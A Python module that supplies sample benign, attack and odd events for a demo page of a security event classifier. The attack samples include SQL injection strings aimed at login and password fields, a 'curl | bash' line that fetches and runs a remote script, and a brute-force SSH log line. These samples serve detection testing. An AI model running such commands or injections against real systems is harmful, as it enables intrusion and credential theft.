"""Give people who try the service something to click: made-up events of the kind that a bundle's classes speak of."""

from __future__ import annotations

from collections.abc import Collection
from dataclasses import asdict, dataclass
from typing import Any

# Which classes are of which kind of event; a bundle's kind is the one of which it has most.
_CLASSES = {
    "payload": "cmdi format-string ldapi lfi nosqli open-redirect path-traversal rce rfi sqli ssi ssrf ssti xpathi "
    "xss xxe",
    "command": "credential-dump download-cradle encoded-powershell log-wiping persistence ransomware reverse-shell "
    "shadow-deletion",
    "log": "brute-force bruteforce failed-logins password-spray privilege-escalation ssh-brute-force",
    "dns": "dga dns-tunnel generated-domain tunnel",
    "flows": "beacon ddos dos exfiltration lateral neptune port-scan port-sweep portscan portsweep probe slow-scan "
    "syn-flood",
}


@dataclass(frozen=True)
class Example:
    """What a button writes into the page's field.

    Attributes
    ----------
    name
        What stands on the button.
    text
        The event, or several.
    lines
        Whether each line is an event; else all of it is one.
    """

    name: str
    text: str
    lines: bool = False


_ODD = "\N{GRINNING FACE}" * 6 + " |-----|-----|-----|"
_EVENTS = {  # benign, an attack, an odd one
    "payload": ("trail running shoes, size 42", "7' UNION SELECT login, password FROM accounts -- ", _ODD),
    "request": (
        "HTTP GET /garden/tools?page=2 host=shop.example.com",
        "HTTP GET /garden/tools?page=2' UNION SELECT login, password FROM accounts --  host=shop.example.com",
        f"HTTP BREW /pot-1 host=shop.example.com body={_ODD}",
    ),
    "command": (
        "tar -czf backup.tar.gz documents && ls -l backup.tar.gz",
        "curl -s http://files.example.com/setup.sh | bash",
        f"echo {_ODD}",
    ),
    "log": (
        "10:15:32 web1 sshd[4101]: Accepted publickey for maria from 192.0.2.10 port 50122",
        "10:15:32 web1 sshd[4101]: Failed password for root from 203.0.113.9 repeated 214 times",
        f"10:15:32 web1 kettle[7]: {_ODD}",
    ),
    "dns": (
        "dns client=192.0.2.10 query=www.example.com type=A rcode=NOERROR answer=198.51.100.7 ttl=2^10",
        "dns client=192.0.2.10 query=q7x0v93kd81zl5wq0b2m.example.com type=A rcode=NXDOMAIN answer=- ttl=2^4",
        f"dns client=192.0.2.10 query=kettle.example.com type=TXT rcode=NOERROR answer={_ODD}",
    ),
    "flows": (
        "flows host=web1 src=192.0.2.10 dst=198.51.100.7 conns=2^3 ports=2^1 peers=2^0 failed=0% gap=2^4s jitter=2^4%",
        "flows host=web1 src=203.0.113.9 dst=192.0.2.10 conns=2^10 ports=2^9 peers=2^0 failed=90% gap=2^0s jitter=2^1%",
        f"flows host=kettle src={_ODD} dst=192.0.2.10 conns=none",
    ),
}
_REQUEST = (
    "POST /account/login HTTP/1.1\nHost: shop.example.com\nContent-Type: application/x-www-form-urlencoded\n\n"
    "user=maria' OR '1'='1' -- &password=x"
)


def examples(classes: Collection[str]) -> list[dict[str, Any]]:
    """Return examples for a bundle of these classes; web requests where they do not tell what its events are."""
    known = {name.lower() for name in classes}
    shared = {kind: len(known.intersection(names.split())) for kind, names in _CLASSES.items()}
    best = max(shared, key=lambda kind: shared[kind])
    kind = best if shared[best] else "request"
    benign, attack, odd = _EVENTS[kind]
    found = [Example("Benign", benign), Example("Attack", attack), Example("Odd one", odd)]
    found.append(Example("Three events", "\n".join(_EVENTS[kind]), lines=True))
    if kind in ("payload", "request"):
        found.append(Example("Whole request", _REQUEST))
    return [asdict(one) for one in found]
